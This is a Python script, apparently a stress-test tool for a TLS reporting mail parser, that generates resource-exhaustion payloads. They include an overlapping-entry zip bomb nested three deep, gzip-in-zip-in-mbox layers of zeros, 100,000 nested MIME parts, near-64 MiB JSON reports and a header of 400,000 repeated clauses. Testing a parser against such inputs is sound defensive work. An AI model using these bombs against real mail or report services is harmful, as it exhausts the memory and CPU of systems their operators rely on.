#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
#
# bomb.py KIND: a mail that is small and wants much done: nested (zips three
# deep, whose directories name one member a hundred times), mbox (gzip in zip
# in mail in mbox, packed), parts (100,000 of MIME), huge (a report of just
# under 64 MiB), fat (the same, of long texts), rows (100,000 failures), reports
# (a list of 100,000), words (a header of a million words).
import base64
import gzip
import io
import struct
import sys
import time
import zipfile
import zlib

HEAD = (b"From: r@example.com\nTo: tls-reports@minties.govt.nz\n"
        b"Subject: Report Domain: minties.govt.nz\nMIME-Version: 1.0\n")
DAY = time.strftime("%Y-%m-%d", time.gmtime(time.time() - 86400))


def packed(data, kind="gzip"):
    return (HEAD + b"Content-Type: application/" + kind.encode() +
            b"\nContent-Transfer-Encoding: base64\n\n" +
            base64.encodebytes(data))


def overlapping(data, method, name, size):
    local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, method, 0, 0, 0,
                        len(data), size, len(name), 0) + name
    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, method,
                        0, 0, 0, len(data), size, len(name), 0, 0, 0, 0, 0,
                        0) + name
    body = local + data
    end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 100, 100,
                      100 * len(entry), len(body), 0)
    return body + entry * 100 + end


def nested():
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = c.compress(b"\0" * (65 << 20)) + c.flush()
    z = overlapping(raw, 8, b"x.json", 65 << 20)
    for _ in range(2):
        z = overlapping(z, 0, b"a.zip", len(z))
    return packed(z, "zip")


def report(ident, details, failed):
    return ('{"organization-name":"O","date-range":{"start-datetime":'
            '"%sT00:00:00Z","end-datetime":"%sT23:59:59Z"},"contact-info":'
            '"a@o.example","report-id":"%s","policies":[{"policy":'
            '{"policy-type":"sts","policy-domain":"minties.govt.nz"},'
            '"summary":{"total-successful-session-count":1,'
            '"total-failure-session-count":%d},"failure-details":[%s]}]}'
            % (DAY, DAY, ident, failed, details)).encode()


def repeated(detail, size):
    n = size // (len(detail) + 1)
    return report("r", ",".join([detail] * n), n)


def mbox():
    inner = packed(gzip.compress(b"\0" * (60 << 20)))
    one = b"From a@b Thu Mar  5 00:00:00 2026\n" + inner + b"\n"
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as f:
        f.writestr("mbox", one * 200)
    return packed(gzip.compress(z.getvalue()))


def main(kind):
    if kind == "nested":
        return nested()
    if kind == "mbox":
        return mbox()
    if kind == "parts":
        return (HEAD + b"Content-Type: multipart/mixed; boundary=b\n\n" +
                b"--b\nContent-Type: multipart/mixed; boundary=b\n\n" *
                100000)
    if kind == "huge":
        return packed(gzip.compress(repeated(
            '{"result-type":"certificate-expired","sending-mta-ip":'
            '"192.0.2.1","failed-session-count":1}', 63 << 20)))
    if kind == "fat":
        return packed(gzip.compress(repeated(
            '{"result-type":"%s","sending-mta-ip":"1.1.1.1",'
            '"receiving-mx-hostname":"m.%s.x","failure-reason-code":"%s",'
            '"additional-information":"%s","receiving-mx-helo":"%s",'
            '"failed-session-count":1}' % ("A" * 600, "a" * 60, "r" * 900,
                                           "i" * 600, "h" * 1000), 62 << 20)))
    if kind == "rows":
        return packed(gzip.compress(report("rows", ",".join(
            '{"result-type":"t%d","sending-mta-ip":"10.%d.%d.1",'
            '"failed-session-count":1}' % (i, i >> 8 & 255, i & 255)
            for i in range(100000)), 100000)))
    if kind == "reports":
        return packed(gzip.compress(b"[" + b",".join(
            report("n%d" % i, "", 0) for i in range(100000)) + b"]"))
    if kind == "words":
        return (HEAD + b"Authentication-Results: mx1.minties.govt.nz;" +
                b" dkim=pass header.d=x.example;" * 400000 + b"\n\n" +
                report("words", "", 0))
    sys.exit("bomb.py: " + kind + "?")


sys.stdout.buffer.write(main(sys.argv[1]))
